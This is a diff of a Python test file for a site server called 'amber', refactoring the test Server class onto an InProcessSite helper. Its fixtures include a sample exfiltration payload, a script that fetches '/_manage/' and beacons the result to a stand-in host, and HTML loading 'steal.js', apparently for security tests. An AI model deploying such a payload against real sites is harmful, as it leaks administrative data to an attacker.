@@ -12,11 +12,8 @@ from pathlib import Path
 
 import pytest
 
-from amber.content.load import SitePaths
-from amber.serve.app import App, Request, Response
-from amber.serve.rebuild import Rebuilder
-from amber.serve.state import LiveSite
-from tests.helpers.serve import share_now, touch_later
+from amber.serve.app import Response
+from tests.helpers.serve import InProcessSite, share_now, touch_later
 
 PICTURE = "5644c9c617c8292e625d9e5a07a5b64d09386b8c511db19689aeef3449544492.png"
 PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR served"
@@ -24,17 +21,11 @@ HTML = b"<!doctype html><script src=steal.js></script>"
 SCRIPT = b"fetch('/_manage/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
 
 
-class Server:
+class Server(InProcessSite):
     def __init__(self, root: Path) -> None:
+        super().__init__(root)
         self.root = root
         self.assets = root / "content" / "assets"
-        live = LiveSite()
-        self.rebuilder = Rebuilder(SitePaths(root), live, log=lambda line: None)
-        self.rebuilder.rebuild()
-        self.app = App(SitePaths(root), live)
-
-    def get(self, target: str) -> Response:
-        return self.app.handle(Request("GET", target, "127.0.0.1:8000", "127.0.0.1"))
 
     def asset(self, name: str) -> Response:
         return self.get(f"/_amber/draft/assets/{name}")
